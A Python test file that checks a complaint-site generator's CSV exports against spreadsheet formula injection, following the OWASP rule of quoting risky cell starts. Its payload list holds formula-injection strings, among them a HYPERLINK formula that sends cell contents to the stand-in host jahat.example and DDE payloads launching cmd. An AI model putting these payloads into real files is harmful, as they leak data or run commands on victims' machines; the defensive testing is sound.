"""Finding 9 of issue 11: no CSV we write starts a cell like a spreadsheet formula (OWASP rule)."""
from __future__ import annotations

import csv
import io

from gitrepo import GitRepo
from site_helpers import NOW, build, project_policy, run_cli, synthetic_complaint, write_repo

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")   # OWASP: what a spreadsheet reads as a formula
PAYLOADS = ['=HYPERLINK("http://jahat.example/?x="&A1,"klik")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_safe_cell_follows_owasp():
    from pipeline.outputs.csvcell import FORMULA_STARTS as ours, safe_cell
    assert ours == FORMULA_STARTS
    assert [safe_cell(p)[0] for p in PAYLOADS] == ["'"] * len(PAYLOADS)
    assert safe_cell("Antrean lama") == "Antrean lama" and safe_cell(3) == 3
    assert safe_cell("'=x") == "'=x"


def test_open_data_and_recap_csv_cells_are_never_formulas(tmp_path):
    complaints = []
    for index, payload in enumerate(PAYLOADS[:4]):
        data = synthetic_complaint(index * 4 + 2)
        data["judul"] = payload
        data["tanggapan"]["isi"] = payload
        data["tanggapan"]["disetujui_oleh"] = payload
        complaints.append(data)
    policy = project_policy()
    policy["unit"][0]["nama"] = "=HYPERLINK(\"http://jahat.example\")"
    repo = write_repo(tmp_path / "repo", complaints, policy=policy)
    output = tmp_path / "site"
    build(repo, output)
    text = (output / "data" / "complaints.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert "'" + PAYLOADS[0] in cells                          # shown as text, nothing lost
    git = GitRepo(repo, policy=(repo / "puskesmas.yaml").read_text(encoding="utf-8"))
    git.commit("Pengaduan", "2027-05-01T08:00:00+07:00")
    recap = run_cli("recap", "--repo", repo, "--now", NOW, "--format", "csv")
    assert recap.returncode in (0, 1), recap.stderr
    cells = [cell for row in csv.reader(io.StringIO(recap.stdout)) for cell in row]
    assert cells and not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert "'" + policy["unit"][0]["nama"] in cells, recap.stdout
